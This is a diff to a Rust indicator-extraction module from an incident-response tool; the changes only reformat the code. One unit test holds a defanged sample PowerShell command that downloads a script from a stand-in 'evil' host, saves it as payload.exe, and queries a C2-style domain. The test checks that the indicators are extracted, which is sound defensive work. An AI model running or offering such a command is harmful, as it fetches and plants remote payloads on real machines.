@@ -31,10 +31,7 @@ const ALERT_FIELDS: &[(&str, IndicatorKind)] = &[
     ("action_file_sha256", IndicatorKind::Sha256),
     ("action_process_image_sha256", IndicatorKind::Sha256),
     ("actor_process_image_sha256", IndicatorKind::Sha256),
-    (
-        "causality_actor_process_image_sha256",
-        IndicatorKind::Sha256,
-    ),
+    ("causality_actor_process_image_sha256", IndicatorKind::Sha256),
     ("os_actor_process_image_sha256", IndicatorKind::Sha256),
     ("action_file_md5", IndicatorKind::Md5),
     ("action_process_image_md5", IndicatorKind::Md5),
@@ -59,21 +56,17 @@ const TEXT_FIELDS: &[&str] = &[
 ];
 
 /// Alert fields that carry ATT&CK references (`T1059.001 - PowerShell`).
-const MITRE_FIELDS: &[&str] = &[
-    "mitre_technique_id_and_name",
-    "mitre_techniques_ids_and_names",
-];
+const MITRE_FIELDS: &[&str] = &["mitre_technique_id_and_name", "mitre_techniques_ids_and_names"];
 
 /// Top-level domains accepted when a domain is found inside free text. A name such as
 /// `payload.exe` or `System.Management` must not become an indicator; structured DNS fields
 /// accept any TLD.
 const FREE_TEXT_TLDS: &[&str] = &[
-    "com", "net", "org", "info", "biz", "io", "co", "me", "xyz", "top", "online", "site", "club",
-    "app", "dev", "cloud", "live", "shop", "store", "tech", "link", "click", "pw", "cc", "tk",
-    "ml", "ga", "cf", "gq", "ru", "su", "cn", "ir", "kp", "ua", "by", "kz", "de", "uk", "fr", "nl",
-    "it", "es", "pl", "br", "in", "jp", "kr", "tw", "hk", "sg", "au", "ca", "us", "eu", "ch", "se",
-    "no", "fi", "dk", "be", "at", "cz", "ro", "hu", "tr", "il", "za", "mx", "ar", "vn", "id", "th",
-    "my", "ph", "onion", "gov", "edu", "mil", "int", "test", "example",
+    "com", "net", "org", "info", "biz", "io", "co", "me", "xyz", "top", "online", "site", "club", "app", "dev", "cloud", "live", "shop",
+    "store", "tech", "link", "click", "pw", "cc", "tk", "ml", "ga", "cf", "gq", "ru", "su", "cn", "ir", "kp", "ua", "by", "kz", "de", "uk",
+    "fr", "nl", "it", "es", "pl", "br", "in", "jp", "kr", "tw", "hk", "sg", "au", "ca", "us", "eu", "ch", "se", "no", "fi", "dk", "be",
+    "at", "cz", "ro", "hu", "tr", "il", "za", "mx", "ar", "vn", "id", "th", "my", "ph", "onion", "gov", "edu", "mil", "int", "test",
+    "example",
 ];
 
 /// Extracted evidence of one incident.
@@ -128,11 +121,7 @@ pub struct Collector<'a> {
 
 impl<'a> Collector<'a> {
     pub fn new(names: &'a InternalNames) -> Self {
-        Collector {
-            names: Some(names),
-            found: BTreeMap::new(),
-            techniques: Vec::new(),
-        }
+        Collector { names: Some(names), found: BTreeMap::new(), techniques: Vec::new() }
     }
 
     pub fn add(&mut self, kind: IndicatorKind, raw: &str, seen_in: &str) {
@@ -141,13 +130,10 @@ impl<'a> Collector<'a> {
         let Some(mut ind) = normalise(kind, raw, names) else {
             return;
         };
-        let entry = self
-            .found
-            .entry((ind.kind, ind.value.clone()))
-            .or_insert_with(|| {
-                ind.seen_in.clear();
-                ind
-            });
+        let entry = self.found.entry((ind.kind, ind.value.clone())).or_insert_with(|| {
+            ind.seen_in.clear();
+            ind
+        });
         if entry.seen_in.len() < MAX_SEEN_IN && !entry.seen_in.iter().any(|s| s == seen_in) {
             entry.seen_in.push(seen_in.to_string());
         }
@@ -163,9 +149,7 @@ impl<'a> Collector<'a> {
         let p = patterns();
         let mut url_hosts = Vec::new();
         for m in p.url.find_iter(&text) {
-            let url = m
-                .as_str()
-                .trim_end_matches(['.', ',', ';', ')', ']', '\'', '"']);
+            let url = m.as_str().trim_end_matches(['.', ',', ';', ')', ']', '\'', '"']);
             self.add(IndicatorKind::Url, url, seen_in);
             if let Some(host) = crate::indicator::url_host(url) {
                 url_hosts.push(host);
@@ -226,15 +210,9 @@ pub fn extract(data: &ExtraData, names: &InternalNames) -> Extraction {
     let inc = &data.incident;
     for host in &inc.hosts {
         // `hosts[]` entries are `name:agent_id`.
-        let (name, agent) = host
-            .split_once(':')
-            .map_or((host.as_str(), None), |(n, a)| (n, Some(a)));
+        let (name, agent) = host.split_once(':').map_or((host.as_str(), None), |(n, a)| (n, Some(a)));
         c.add(IndicatorKind::Hostname, name, "incident.hosts");
-        push_endpoint(
-            &mut endpoints,
-            agent.map(str::to_string),
-            Some(name.to_ascii_lowercase()),
-        );
+        push_endpoint(&mut endpoints, agent.map(str::to_string), Some(name.to_ascii_lowercase()));
     }
     for user in &inc.users {
         c.add(IndicatorKind::User, user, "incident.users");
@@ -261,20 +239,12 @@ pub fn extract(data: &ExtraData, names: &InternalNames) -> Extraction {
             }
         }
         if alert.endpoint_id.is_some() || alert.host_name.is_some() {
-            push_endpoint(
-                &mut endpoints,
-                alert.endpoint_id.clone(),
-                alert.host_name.as_deref().map(str::to_ascii_lowercase),
-            );
+            push_endpoint(&mut endpoints, alert.endpoint_id.clone(), alert.host_name.as_deref().map(str::to_ascii_lowercase));
         }
     }
     for n in &data.network_artifacts {
         if let Some(ip) = &n.remote_ip {
-            c.add(
-                IndicatorKind::Ipv4,
-                ip,
-                "network_artifacts.network_remote_ip",
-            );
+            c.add(IndicatorKind::Ipv4, ip, "network_artifacts.network_remote_ip");
         }
         if let Some(d) = &n.domain {
             c.add(IndicatorKind::Domain, d, "network_artifacts.network_domain");
@@ -286,22 +256,14 @@ pub fn extract(data: &ExtraData, names: &InternalNames) -> Extraction {
         }
     }
     let (indicators, techniques) = c.finish();
-    Extraction {
-        indicators,
-        techniques,
-        endpoints,
-    }
+    Extraction { indicators, techniques, endpoints }
 }
 
-fn push_endpoint(
-    endpoints: &mut Vec<Endpoint>,
-    endpoint_id: Option<String>,
-    host_name: Option<String>,
-) {
-    if let Some(existing) = endpoints.iter_mut().find(|e| {
-        (endpoint_id.is_some() && e.endpoint_id == endpoint_id)
-            || (host_name.is_some() && e.host_name == host_name)
-    }) {
+fn push_endpoint(endpoints: &mut Vec<Endpoint>, endpoint_id: Option<String>, host_name: Option<String>) {
+    if let Some(existing) = endpoints
+        .iter_mut()
+        .find(|e| (endpoint_id.is_some() && e.endpoint_id == endpoint_id) || (host_name.is_some() && e.host_name == host_name))
+    {
         if existing.endpoint_id.is_none() {
             existing.endpoint_id = endpoint_id;
         }
@@ -310,10 +272,7 @@ fn push_endpoint(
         }
         return;
     }
-    endpoints.push(Endpoint {
-        endpoint_id,
-        host_name,
-    });
+    endpoints.push(Endpoint { endpoint_id, host_name });
 }
 
 #[cfg(test)]
@@ -324,11 +283,7 @@ mod tests {
         let names = InternalNames::default();
         let mut c = Collector::new(&names);
         c.scan_text(text, "t");
-        c.finish()
-            .0
-            .into_iter()
-            .map(|i| (i.kind, i.value))
-            .collect()
+        c.finish().0.into_iter().map(|i| (i.kind, i.value)).collect()
     }
 
     #[test]
@@ -336,19 +291,11 @@ mod tests {
         let found = scan(
             r#"powershell.exe -c "iwr hxxp://evil[.]example[.]com/a.ps1 -OutFile C:\x\payload.exe; nslookup c2.bad-domain.ru 10.0.0.5""#,
         );
-        assert!(
-            found.contains(&(IndicatorKind::Url, "http://evil.example.com/a.ps1".into())),
-            "{found:?}"
-        );
+        assert!(found.contains(&(IndicatorKind::Url, "http://evil.example.com/a.ps1".into())), "{found:?}");
         assert!(found.contains(&(IndicatorKind::Domain, "evil.example.com".into())));
         assert!(found.contains(&(IndicatorKind::Domain, "c2.bad-domain.ru".into())));
         assert!(found.contains(&(IndicatorKind::Ipv4, "10.0.0.5".into())));
-        assert!(
-            !found
-                .iter()
-                .any(|(_, v)| v.contains("payload.exe") && !v.starts_with("http")),
-            "{found:?}"
-        );
+        assert!(!found.iter().any(|(_, v)| v.contains("payload.exe") && !v.starts_with("http")), "{found:?}");
         assert!(!found.iter().any(|(_, v)| v == "powershell.exe"));
     }
 
@@ -359,15 +306,9 @@ mod tests {
         c.scan_text("mail from Bob@Phish.Example.com, md5 D41D8CD98F00B204E9800998ECF8427E; T1059.001 and T1027", "t");
         let (inds, techniques) = c.finish();
         let kinds: Vec<_> = inds.iter().map(|i| (i.kind, i.value.as_str())).collect();
-        assert!(
-            kinds.contains(&(IndicatorKind::Email, "bob@phish.example.com")),
-            "{kinds:?}"
-        );
+        assert!(kinds.contains(&(IndicatorKind::Email, "bob@phish.example.com")), "{kinds:?}");
         assert!(kinds.contains(&(IndicatorKind::Md5, "d41d8cd98f00b204e9800998ecf8427e")));
-        assert!(
-            !kinds.iter().any(|(k, _)| *k == IndicatorKind::Domain),
-            "{kinds:?}"
-        );
+        assert!(!kinds.iter().any(|(k, _)| *k == IndicatorKind::Domain), "{kinds:?}");
         assert_eq!(techniques, vec!["T1059.001", "T1027"]);
     }
 
